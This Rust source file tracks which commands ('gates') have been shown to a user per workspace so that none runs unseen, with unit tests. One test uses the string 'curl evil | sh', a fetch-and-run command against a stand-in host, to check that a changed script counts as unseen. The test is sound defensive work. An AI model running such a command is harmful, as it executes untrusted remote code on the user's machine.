//! Which gates have been shown in which workspace: no command runs that nobody has seen.

use crate::protocol::Gate;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fs::{self, DirBuilder, File, OpenOptions};
use std::io::{self, Read, Write};
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

const FILE: &str = "gates.jsonl";
/// A larger record starts anew: then what was shown is shown again.
const FILE_BYTES_MAX: u64 = 8 * 1024 * 1024;

/// What was shown in one workspace, kept in the state folder: one line a gate.
#[derive(Clone, Debug)]
pub struct Known {
    file: PathBuf,
    workspace: String,
    shown: BTreeSet<Shown>,
}

/// All of a gate that decides what happens when it runs.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
struct Shown {
    workspace: String,
    folder: String,
    command: String,
    #[serde(default)]
    script: Option<String>,
}

impl Known {
    /// The record of a workspace, which is named by its canonical root. One that cannot be read is
    /// an empty one: then all is shown again.
    pub fn open(state: &Path, workspace: &Path) -> Known {
        let file = state.join(FILE);
        // Lossless, also for what is no UTF-8.
        let workspace = workspace.as_os_str().as_encoded_bytes().escape_ascii().to_string();
        let record = read(&file);
        let shown = record.lines().filter_map(|line| serde_json::from_str(line).ok());
        let shown = shown.filter(|shown: &Shown| shown.workspace == workspace).collect();
        Known { file, workspace, shown }
    }

    /// Whether this very command was shown here.
    pub fn has(&self, gate: &Gate) -> bool {
        self.shown.contains(&self.of(gate))
    }

    /// Says that these were shown and may run. It is on the disk when this returns.
    ///
    /// # Errors
    /// If it cannot be written; for this value it counts all the same.
    pub fn remember(&mut self, gates: &[Gate]) -> io::Result<()> {
        let mut lines = String::new();
        for gate in gates {
            let shown = self.of(gate);
            if !self.shown.contains(&shown) {
                lines.push_str(&serde_json::to_string(&shown)?);
                lines.push('\n');
                self.shown.insert(shown);
            }
        }
        if lines.is_empty() {
            return Ok(());
        }
        append(&self.file, &lines)
    }

    fn of(&self, gate: &Gate) -> Shown {
        Shown {
            workspace: self.workspace.clone(),
            folder: gate.folder.clone(),
            command: gate.command.clone(),
            script: gate.script.clone(),
        }
    }
}

fn read(file: &Path) -> String {
    let mut bytes = Vec::new();
    let read = File::open(file).and_then(|file| file.take(FILE_BYTES_MAX).read_to_end(&mut bytes));
    if read.is_err() { String::new() } else { String::from_utf8_lossy(&bytes).into_owned() }
}

/// In one write, so that two that do it at once do not mix; a torn line before it is ended.
fn append(file: &Path, lines: &str) -> io::Result<()> {
    if let Some(folder) = file.parent() {
        DirBuilder::new().recursive(true).mode(0o700).create(folder)?;
    }
    let full = file.metadata().is_ok_and(|meta| meta.len() > FILE_BYTES_MAX);
    if full {
        fs::remove_file(file)?;
    }
    let mut out = OpenOptions::new().append(true).create(true).mode(0o600).open(file)?;
    let before = if full { String::new() } else { read(file) };
    let torn = !before.is_empty() && !before.ends_with('\n');
    let lines = if torn { format!("\n{lines}") } else { lines.to_owned() };
    out.write_all(lines.as_bytes())?;
    out.sync_all()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::{GateKind, GateSource, GateWhen};

    fn gate(command: &str) -> Gate {
        Gate {
            name: "test".to_owned(),
            kind: GateKind::Test,
            command: command.to_owned(),
            folder: String::new(),
            script: Some("vitest".to_owned()),
            when: GateWhen::Turn,
            timeout_seconds: 5,
            source: GateSource::Config,
            sarif: None,
        }
    }

    #[test]
    fn what_was_shown_is_known_in_its_workspace_and_as_it_was() {
        let state = tempfile::tempdir().unwrap();
        let folder = state.path().join("state");
        let open = |workspace: &str| Known::open(&folder, Path::new(workspace));
        let mut known = open("/w");
        assert!(!known.has(&gate("a")));
        known.remember(&[gate("a"), gate("b")]).unwrap();
        known.remember(&[gate("a")]).unwrap();
        assert_eq!(fs::read_to_string(folder.join(FILE)).unwrap().lines().count(), 2);
        assert!(open("/w").has(&gate("a")) && open("/w").has(&gate("b")));
        assert!(!open("/w").has(&gate("c")) && !open("/other").has(&gate("a")));
        let mut changed = gate("a");
        changed.script = Some("curl evil | sh".to_owned());
        assert!(!open("/w").has(&changed));
        changed = gate("a");
        changed.folder = "web".to_owned();
        assert!(!open("/w").has(&changed));
        changed = gate("a");
        changed.timeout_seconds = 7;
        assert!(open("/w").has(&changed));
    }

    #[test]
    fn a_damaged_record_asks_again_and_takes_new_words() {
        let state = tempfile::tempdir().unwrap();
        let file = state.path().join(FILE);
        fs::write(&file, b"{\"workspace\": \"/w\", \"fol\xff").unwrap();
        let mut known = Known::open(state.path(), Path::new("/w"));
        assert!(!known.has(&gate("a")));
        known.remember(&[gate("a")]).unwrap();
        assert!(Known::open(state.path(), Path::new("/w")).has(&gate("a")));
        fs::remove_file(&file).unwrap();
        fs::create_dir(&file).unwrap();
        let mut known = Known::open(state.path(), Path::new("/w"));
        assert!(known.remember(&[gate("a")]).is_err());
        assert!(known.has(&gate("a")));
    }
}
